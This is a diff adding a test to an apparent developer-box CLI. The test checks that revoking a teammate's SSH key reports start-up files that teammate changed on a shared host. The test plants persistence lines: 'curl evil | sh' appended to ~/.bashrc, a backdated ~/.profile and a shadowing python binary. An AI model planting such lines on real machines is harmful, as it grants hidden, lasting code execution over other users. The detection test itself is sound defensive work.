@@ -234,3 +234,32 @@ def test_a_ca_bundle_that_is_not_certificates_is_refused_before_anything_runs(tm
         done = subprocess.run([sys.executable, "-m", "devbox.cli", "up", "some-host", "--dry-run"], cwd=tmp_path,
                               capture_output=True, text=True, env={**os.environ, "HOME": str(tmp_path)})
         assert done.returncode == 2 and says in done.stderr and done.stderr.count("\n") == 1, done.stderr
+
+
+# ---------------------------------------------------------------- 5: what a revoked teammate left in a shared home
+
+
+def test_revoking_a_key_on_a_shared_box_lists_the_start_up_files_changed_since_it_was_added(laptop, tmp_path):
+    """Was: mallory's ~/.bashrc lines ran at the next teammate's login and nothing said so."""
+    mallory = tb.keygen(tmp_path / "mallory")
+    laptop.devbox("keys", "add", "me", f"{laptop.identity}.pub")
+    laptop.devbox("keys", "add", "mallory", f"{mallory}.pub")
+    reports, _ = laptop.devbox.json("up", laptop.host1)
+    assert reports[0]["error"] == "", reports[0]
+    plant = ("echo 'curl evil | sh' >> ~/.bashrc && echo x >> ~/.profile && touch -d 2001-01-01 ~/.profile "
+             "&& mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/python && echo 'set -g mouse on' > ~/.tmux.conf")
+    done = laptop.ssh(f"devbox-{laptop.host1}", plant, extra=["-o", f"IdentityFile={mallory}"])
+    assert done.returncode == 0, done.stderr
+    done = laptop.devbox("keys", "revoke", "mallory", laptop.host1)
+    assert done.returncode == 0, done.stderr
+    assert "removed mallory" in done.stdout and "revoked mallory" in done.stdout
+    warning = done.stderr
+    for planted in ("~/.bashrc", "~/.profile", "~/.local/bin/python", "~/.tmux.conf"):
+        assert planted in warning, warning   # ~/.profile too: its mtime says 2001, its ctime does not lie
+    assert "~/.bash_logout" not in warning, "the image's own copy is not listed"
+    assert "README: trust model" in warning
+    installed = subprocess.run(["docker", "exec", f"devbox-{laptop.host1}", "cat", "/etc/devbox/keys/authorized_keys"],
+                               capture_output=True, text=True).stdout
+    assert Path(f"{mallory}.pub").read_text().split()[1] not in installed and " me\n" in installed
+    again, _ = laptop.devbox.json("keys", "sync", laptop.host1)
+    assert again[0]["removed"] == [] and again[0]["planted"] == [], "listed once, when the key leaves"
